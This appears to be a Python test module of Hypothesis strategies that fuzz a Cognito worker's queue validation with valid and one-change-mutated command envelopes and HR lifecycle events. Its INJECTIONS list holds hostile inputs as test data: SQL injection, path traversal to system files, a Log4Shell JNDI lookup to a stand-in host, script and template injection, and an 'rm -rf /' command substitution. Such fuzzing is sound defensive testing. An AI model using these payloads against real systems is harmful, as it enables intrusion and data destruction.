"""Hypothesis strategies over everything a queue can deliver: command envelopes in both delivery shapes, every
catalog action's params and the HR lifecycle events, valid ones and mutated ones, each with what the function
must answer.

Valid values are built from the pydantic models' JSON schemas, so they follow the same bounds as the models
(and through them botocore's). A mutation changes one thing, so that the rejection it must cause is known:
its code and the field its reason names first.
"""

from __future__ import annotations

import datetime
import json
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Literal

from hypothesis import strategies as st
from pydantic import BaseModel

from cognito_workers.catalog import ACTIONS, ACTIONS_BY_NAME, PLANNER
from cognito_workers.contracts import CommandEnvelope
from cognito_workers.lifecycle.events import DEFAULT_DELETE_AFTER_DAYS, EVENT_TYPES
from cognito_workers.lifecycle.state import STEP_OUTCOMES
from local_aws.deployment import COMMAND_SOURCES, HR_SOURCE

ACTION_NAMES = tuple(spec.name for spec in ACTIONS)
HUGE = 100_000

# What botocore's patterns call visible: letters, marks, numbers, punctuation and symbols (RTL scripts and
# emoji included).
VISIBLE = st.characters(categories=("L", "M", "N", "P", "S"))
VISIBLE_ASCII = st.characters(categories=("L", "M", "N", "P", "S"), codec="ascii")
INJECTIONS = (
    "'; DROP TABLE users;--",
    "' OR '1'='1",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "$(rm -rf /)",
    "%00%0a",
    "admin\x00",
    "user\r\nX-Injected: 1",
)
ODD_CHARACTERS = (
    "\x00", "\n", "\t", "\x7f", " ", "\u00a0", "\u200b", "\u200d", "\u200e", "\u202e", "\u2028", "\ufeff",
    "\ufffd", "\U0001f600", "\U0001f469\u200d\U0001f4bb", "\u0301", "\u05d0", "\u0627", "\U0010ffff",
)  # fmt: skip
ODD_TEXT = st.one_of(
    st.sampled_from(INJECTIONS),
    st.lists(st.one_of(st.sampled_from(ODD_CHARACTERS), VISIBLE), min_size=1, max_size=12).map("".join),
    # About 100 KB of UTF-8 each.
    st.sampled_from(("a" * HUGE, "é" * (HUGE // 2), "\U0001f600" * (HUGE // 4), "\u200b" * (HUGE // 3))),
)
# Injection-looking usernames Cognito accepts: visible characters only.
VISIBLE_INJECTIONS = tuple(text for text in INJECTIONS if text.isprintable() and " " not in text)

JSON_VALUES: dict[str, st.SearchStrategy[Any]] = {
    "string": st.text(VISIBLE, max_size=8),
    "integer": st.integers(-(2**63), 2**63),
    "number": st.floats(allow_nan=False, allow_infinity=False).filter(lambda x: not x.is_integer()),
    "boolean": st.booleans(),
    "null": st.none(),
    "array": st.lists(st.integers(), max_size=2),
    "object": st.dictionaries(st.text(VISIBLE, max_size=4), st.integers(), max_size=2),
}
ANY_JSON = st.one_of(*JSON_VALUES.values())

Expect = Literal["accept", "reject", "either"]


@dataclass(frozen=True)
class Case:
    """One body for one queue and what the function must answer: accept it, reject it with `code` naming
    `field` first, or ("either") accept it or reject it naming `field` first."""

    queue: str
    body: str
    expect: Expect
    code: str | None = None
    field: str | None = None
    username: str | None = None


class Schema:
    """Valid values and one-thing-wrong values of a pydantic model, read from its JSON schema."""

    def __init__(self, model: type[BaseModel]) -> None:
        self.root = model.model_json_schema(by_alias=True)
        self.defs: dict[str, Any] = self.root.get("$defs", {})

    def resolve(self, node: dict[str, Any]) -> dict[str, Any]:
        return self.defs[node["$ref"].rsplit("/", 1)[-1]] if "$ref" in node else node

    def options(self, node: dict[str, Any]) -> list[dict[str, Any]]:
        node = self.resolve(node)
        return [self.resolve(option) for option in node.get("anyOf", [node])]

    def valid(self, node: dict[str, Any], skip: frozenset[str] = frozenset()) -> st.SearchStrategy[Any]:
        return st.one_of(*(self._valid_option(option, skip) for option in self.options(node)))

    def _valid_option(self, node: dict[str, Any], skip: frozenset[str]) -> st.SearchStrategy[Any]:
        if "const" in node:
            return st.just(node["const"])
        if "enum" in node:
            return st.sampled_from(node["enum"])
        kind: str = node["type"]
        if kind == "string":
            return _text(node)
        if kind == "integer":
            return st.integers(node.get("minimum", -(2**31)), node.get("maximum", 2**31))
        if kind == "array":
            low = node.get("minItems", 0)
            return st.lists(self.valid(node["items"]), min_size=low, max_size=min(node.get("maxItems", 3), 3))
        if kind == "object" and "properties" in node:
            properties = {
                name: self.valid(sub) for name, sub in node["properties"].items() if name not in skip
            }
            required = set(node.get("required", ()))
            return st.fixed_dictionaries(
                {name: value for name, value in properties.items() if name in required},
                optional={name: value for name, value in properties.items() if name not in required},
            )
        if kind == "object":
            keys = _text(node.get("propertyNames", {}))
            return st.dictionaries(keys, self.valid(node["additionalProperties"]), max_size=3)
        return JSON_VALUES[kind]

    def invalid(self, node: dict[str, Any]) -> st.SearchStrategy[Any]:
        """Values no option of the field accepts: a wrong JSON type, or just out of the one type's bounds."""
        options = self.options(node)
        allowed = {option.get("type") for option in options}
        if "integer" in allowed:
            allowed.add("number")  # 1.5 would be rejected, but the test should not depend on how
        wrong = [values for kind, values in JSON_VALUES.items() if kind not in allowed]
        typed = [option for option in options if option.get("type") != "null"]
        if len(typed) == 1:
            wrong.extend(_out_of_bounds(typed[0]))
        return st.one_of(*wrong)


def _text(node: dict[str, Any]) -> st.SearchStrategy[str]:
    low, high = node.get("minLength", 0), min(node.get("maxLength", 24), 24)
    if "pattern" in node:
        # botocore's patterns are Java's, where \w is ASCII; Python's and pydantic's \w disagree beyond it.
        pattern = st.from_regex(node["pattern"], fullmatch=True, alphabet=VISIBLE_ASCII)
        return pattern.filter(lambda text: low <= len(text) <= node.get("maxLength", len(text)))
    return st.text(VISIBLE, min_size=low, max_size=max(low, high))


def _out_of_bounds(node: dict[str, Any]) -> list[st.SearchStrategy[Any]]:
    bounds: list[st.SearchStrategy[Any]] = []
    if node.get("type") == "string" or "enum" in node or "const" in node:
        if "maxLength" in node:
            bounds.append(st.integers(node["maxLength"] + 1, node["maxLength"] + 3).map(lambda n: "x" * n))
            if node["maxLength"] < HUGE // 4:
                bounds.append(st.just("\U0001f600" * (HUGE // 4)))
        if node.get("minLength", 0) > 0:
            bounds.append(st.just(""))
        if "pattern" in node:
            # A line break inside fails every pattern the models use (none is multi-line).
            bounds.append(_text(node).filter(bool).map(lambda text: text[:1] + "\n" + text[1:]))
        if choices := node.get("enum", [node["const"]] if "const" in node else []):
            bounds.append(st.text(VISIBLE, min_size=1, max_size=12).filter(lambda text: text not in choices))
    if node.get("type") == "integer":
        if "minimum" in node:
            bounds.append(st.integers(node["minimum"] - 1000, node["minimum"] - 1))
        if "maximum" in node:
            bounds.append(st.integers(node["maximum"] + 1, node["maximum"] + 1000))
    if node.get("type") == "array":
        if node.get("minItems", 0) > 0:
            bounds.append(st.just([]))
        if "maxItems" in node:
            bounds.append(st.just([None] * (node["maxItems"] + 1)))
    return bounds


@st.composite
def mutated(
    draw: st.DrawFn,
    schema: Schema,
    instance: dict[str, Any],
    *,
    prefix: str,
    defaulted: frozenset[str] = frozenset(),
) -> tuple[dict[str, Any], Expect, str]:
    """One change to a valid object: a required field missing, an unknown field, a wrong value (which must be
    rejected), or an odd string (which may be accepted). Returns the object, what it must cause and the
    field named. `defaulted` fields are filled in when missing, and only valid when they are the default."""
    properties: dict[str, Any] = schema.root["properties"]
    required = [
        name for name in schema.root.get("required", ()) if name in instance and name not in defaulted
    ]
    kind = draw(st.sampled_from(["wrong", "wrong", "unknown", "odd"] + ["missing"] * bool(required)))
    if kind == "missing":
        name = draw(st.sampled_from(required))
        return {k: v for k, v in instance.items() if k != name}, "reject", f"{prefix}.{name}"
    if kind == "unknown":
        name = draw(unknown_name(frozenset(properties)))
        return {**instance, name: draw(ANY_JSON)}, "reject", f"{prefix}.{name}"
    if kind == "wrong":
        name = draw(st.sampled_from(sorted(properties)))
        return {**instance, name: draw(schema.invalid(properties[name]))}, "reject", f"{prefix}.{name}"
    name = draw(st.sampled_from(sorted(set(properties) - defaulted)))
    return {**instance, name: draw(ODD_TEXT)}, "either", f"{prefix}.{name}"


# --- Commands -----------------------------------------------------------------------------------------------
SCHEMAS = {spec.name: Schema(spec.params_model) for spec in ACTIONS}
ENVELOPE = Schema(CommandEnvelope)
POOL = frozenset({"UserPoolId"})
# Every name the envelope accepts: its aliases and (populate_by_name) its field names.
ENVELOPE_NAMES = frozenset(ENVELOPE.root["properties"]) | frozenset(CommandEnvelope.model_fields)


def valid_params(action: str, pool_id: str) -> st.SearchStrategy[dict[str, Any]]:
    """Params of the action, with the deployment's pool or none (the default is the deployment's)."""
    schema = SCHEMAS[action]
    params = schema.valid(schema.root, skip=POOL)
    return st.one_of(params, params.map(lambda given: {"UserPoolId": pool_id, **given}))


def token() -> st.SearchStrategy[str]:
    return st.text(VISIBLE, min_size=1, max_size=40).filter(
        lambda key: not key.startswith(PLANNER.step_key_prefix)
    )


@st.composite
def valid_envelope(draw: st.DrawFn, action: str, pool_id: str) -> dict[str, Any]:
    envelope: dict[str, Any] = {"action": action, "params": draw(valid_params(action, pool_id))}
    for name in ("idempotencyKey", "correlationId"):
        if draw(st.booleans()):
            envelope[name] = draw(token())
    return envelope


def event_bridge(detail_type: Any, detail: Any, *, source: str, event_id: Any = None) -> dict[str, Any]:
    return {
        "version": "0",
        "id": str(uuid.uuid4()) if event_id is None else event_id,
        "detail-type": detail_type,
        "source": source,
        "account": "123456789012",
        "time": "2025-01-01T00:00:00Z",
        "region": "us-east-1",
        "resources": [],
        "detail": detail,
    }


def wrap_command(action: str, envelope: dict[str, Any], *, keep_action: bool = False) -> dict[str, Any]:
    """The command as the bus delivers it: the detail of an event whose detail-type is the action."""
    detail = {name: value for name, value in envelope.items() if keep_action or name != "action"}
    return event_bridge(action, detail, source=COMMAND_SOURCES[0])


def dumps(draw: st.DrawFn, value: Any) -> str:
    return json.dumps(value, ensure_ascii=draw(st.booleans()))


@st.composite
def command_cases(
    draw: st.DrawFn, pool_id: str, *, valid: bool | None = None, actions: tuple[str, ...] = ACTION_NAMES
) -> Case:
    """A body for one action's queue, either shape: valid (one in ten unless `valid` says), or with one thing
    wrong in its JSON, its envelope, its action or its params."""
    action = draw(st.sampled_from(actions))
    envelope = draw(valid_envelope(action, pool_id))
    username = envelope["params"].get("Username")

    def body(envelope: dict[str, Any]) -> dict[str, Any]:
        return wrap_command(action, envelope, keep_action=draw(st.booleans())) if bridged else envelope

    bridged = draw(st.booleans())
    if valid or (valid is None and draw(st.integers(0, 9)) == 0):
        return Case(action, dumps(draw, body(envelope)), "accept", username=username)
    kind = draw(st.sampled_from(["params", "params", "params", "pool", "envelope", "action", "json"]))
    expect: Expect = "reject"
    if kind == "json":
        text, code, field = draw(_malformed(body(envelope), bridged))
        return Case(action, text, expect, code, field)
    if kind == "action":
        bad, code = draw(_other_action(action, bridged))
        return Case(action, dumps(draw, bad(envelope)), expect, code, "action", username)
    if kind == "params":
        params, expect, field = draw(
            mutated(SCHEMAS[action], envelope["params"], prefix="params", defaulted=POOL)
        )
        envelope, code, username = {**envelope, "params": params}, "InvalidParams", params.get("Username")
    elif kind == "pool":
        pool = draw(st.from_regex(r"[a-z]{2}-[a-z]{4}-[1-9]_[0-9a-zA-Z]{1,9}", fullmatch=True))
        envelope = {**envelope, "params": {**envelope["params"], "UserPoolId": pool}}
        code, field, expect = (
            "UnmanagedUserPool",
            "params.UserPoolId",
            "accept" if pool == pool_id else "reject",
        )
    else:
        envelope, field = draw(_mutated_envelope(envelope))
        code = "InvalidCommand"
    return Case(
        action,
        dumps(draw, body(envelope)),
        expect,
        code,
        field,
        username if isinstance(username, str) else None,
    )


@st.composite
def _mutated_envelope(draw: st.DrawFn, envelope: dict[str, Any]) -> tuple[dict[str, Any], str]:
    name = draw(st.sampled_from(["idempotencyKey", "correlationId", "params", "unknown", "missing"]))
    if name == "unknown":
        extra = draw(unknown_name(ENVELOPE_NAMES))
        return {**envelope, extra: draw(ANY_JSON)}, extra
    if name == "missing":
        return {k: v for k, v in envelope.items() if k != "params"}, "params"
    return {**envelope, name: draw(ENVELOPE.invalid(ENVELOPE.root["properties"][name]))}, name


@st.composite
def _other_action(
    draw: st.DrawFn, action: str, bridged: bool
) -> tuple[Callable[[dict[str, Any]], dict[str, Any]], str]:
    """An action other than the queue's, in the body (raw) or the detail-type (bridged); in a bridged event
    also a detail whose action disagrees with the detail-type."""
    other = draw(
        st.one_of(
            st.sampled_from([name for name in ACTION_NAMES if name != action]),
            st.text(VISIBLE, min_size=1, max_size=30).filter(lambda name: name not in ACTIONS_BY_NAME),
        )
    )
    code = "WrongQueue" if other in ACTIONS_BY_NAME else "UnknownAction"
    if bridged:
        if draw(st.booleans()):
            return lambda envelope: wrap_command(action, {**envelope, "action": other}, keep_action=True), (
                "InvalidCommand"
            )
        return lambda envelope: wrap_command(other, envelope), code
    wrong_type = draw(st.one_of(st.none(), JSON_VALUES["integer"], JSON_VALUES["array"], st.just(other)))
    if wrong_type is None:
        return lambda envelope: {k: v for k, v in envelope.items() if k != "action"}, "UnknownAction"
    if wrong_type is other:
        return lambda envelope: {**envelope, "action": other}, code
    return lambda envelope: {**envelope, "action": wrong_type}, "InvalidCommand"


@st.composite
def _malformed(draw: st.DrawFn, body: dict[str, Any], bridged: bool) -> tuple[str, str, str]:
    """The body broken as JSON, or valid JSON that is not a command (not an object; a non-object detail)."""
    text = json.dumps(body)
    kind = draw(st.sampled_from(["truncated", "replaced", "bom", "not-an-object"] + ["detail"] * bridged))
    if kind == "truncated":
        return text[: draw(st.integers(0, len(text) - 1))], "MalformedJson", "body"
    if kind == "replaced":  # bytes that were not UTF-8, decoded with replacement characters
        return draw(st.sampled_from(["\ufffd" + text[1:], text[:-1] + "\ufffd"])), "MalformedJson", "body"
    if kind == "bom":
        return "\ufeff" + text, "MalformedJson", "body"
    not_an_object = st.one_of(*(values for kind, values in JSON_VALUES.items() if kind != "object"))
    if kind == "detail":
        return json.dumps({**body, "detail": draw(not_an_object)}), "InvalidCommand", "detail"
    return json.dumps(draw(not_an_object)), "InvalidCommand", "body"


def unknown_name(known: frozenset[str]) -> st.SearchStrategy[str]:
    return st.one_of(st.text(VISIBLE, min_size=1, max_size=16), ODD_TEXT).filter(
        lambda name: name not in known
    )


# --- Lifecycle events ---------------------------------------------------------------------------------------
HR_SCHEMAS = {name: Schema(model) for name, model in EVENT_TYPES.items()}
# Every detail-type the planner handles: an unknown one is none of these.
PLANNER_INPUTS = frozenset(EVENT_TYPES) | STEP_OUTCOMES | {PLANNER.release_detail_type}
SAFE_LATEST = datetime.datetime(9000, 1, 1)
# PutEvents lets the producer set an event's time: any time, the calendar's edges included.
EVENT_TIMES = st.one_of(
    st.datetimes(timezones=st.just(datetime.UTC)),
    st.sampled_from([datetime.datetime.min, datetime.datetime.max]).map(
        lambda edge: edge.replace(microsecond=0, tzinfo=datetime.UTC)
    ),
)


@st.composite
def valid_hr_detail(draw: st.DrawFn, detail_type: str) -> dict[str, Any]:
    schema = HR_SCHEMAS[detail_type]
    detail: dict[str, Any] = draw(schema.valid(schema.root))
    if "username" not in detail:
        # The derived username is the lower-cased employeeId, which must be a valid username on its own.
        detail["employeeId"] = draw(st.from_regex(r"[A-Za-z0-9]{1,20}", fullmatch=True))
    return detail


@st.composite
def lifecycle_cases(draw: st.DrawFn, *, valid: bool | None = None) -> Case:
    """An HR event as the bus delivers it to the planner: valid (one in ten unless `valid` says), or with one
    thing wrong in its JSON, its event envelope or its detail."""
    detail_type = draw(st.sampled_from(sorted(EVENT_TYPES)))
    detail = draw(valid_hr_detail(detail_type))
    valid = valid or (valid is None and draw(st.integers(0, 9)) == 0)
    # A mutated event is rejected before its time matters: only a valid one gets the calendar's edges.
    time = draw(
        EVENT_TIMES if valid else st.datetimes(max_value=SAFE_LATEST, timezones=st.just(datetime.UTC))
    )
    text = time.isoformat().replace("+00:00", draw(st.sampled_from(["Z", "+00:00"])))
    event = {**event_bridge(detail_type, detail, source=HR_SOURCE), "time": text}
    if valid and _deletion_overflows(detail_type, detail, time):
        return Case("planner", dumps(draw, event), "reject", "InvalidEvent", "time")
    if valid:
        return Case("planner", dumps(draw, event), "accept")
    kind = draw(st.sampled_from(["detail", "detail", "detail", "event", "json"]))
    if kind == "json":
        text, code, field = draw(_malformed(event, bridged=False))
        return Case("planner", text, "reject", "InvalidEvent" if code == "InvalidCommand" else code, field)
    if kind == "event":
        event, code, field = draw(_mutated_event(event))
        return Case("planner", dumps(draw, event), "reject", code, field)
    detail, expect, field = draw(mutated(HR_SCHEMAS[detail_type], detail, prefix="detail"))
    body = dumps(draw, {**event, "detail": detail})
    return Case("planner", body, expect, "InvalidEvent", field)


@st.composite
def _mutated_event(draw: st.DrawFn, event: dict[str, Any]) -> tuple[dict[str, Any], str, str]:
    name = draw(st.sampled_from(["id", "detail-type", "time", "detail", "unknown-type", "bad-time"]))
    if name == "unknown-type":
        detail_type = draw(
            st.one_of(st.text(VISIBLE, max_size=30), ODD_TEXT).filter(lambda t: t not in PLANNER_INPUTS)
        )
        return {**event, "detail-type": detail_type}, "UnknownEventType", "detail-type"
    if name == "bad-time":
        time = draw(st.one_of(st.text(VISIBLE, max_size=30), ODD_TEXT).filter(_not_iso_time))
        return {**event, "time": time}, "InvalidEvent", "time"
    value = draw(
        st.one_of(*(values for kind, values in JSON_VALUES.items() if kind not in ("string", "object")))
    )
    changed = {k: v for k, v in event.items() if k != name} if draw(st.booleans()) else {**event, name: value}
    return changed, "InvalidEvent", "body" if name == "detail" else name


def _deletion_overflows(detail_type: str, detail: dict[str, Any], time: datetime.datetime) -> bool:
    """A leaver's deletion date past the calendar's end."""
    days = (
        detail.get("deleteAfterDays", DEFAULT_DELETE_AFTER_DAYS) if detail_type == "EmployeeOffboarded" else 0
    )
    return days > 0 and time > datetime.datetime.max.replace(tzinfo=datetime.UTC) - datetime.timedelta(days)


def _not_iso_time(text: str) -> bool:
    try:
        datetime.datetime.fromisoformat(text.replace("Z", "+00:00"))
    except ValueError:
        return True
    return False
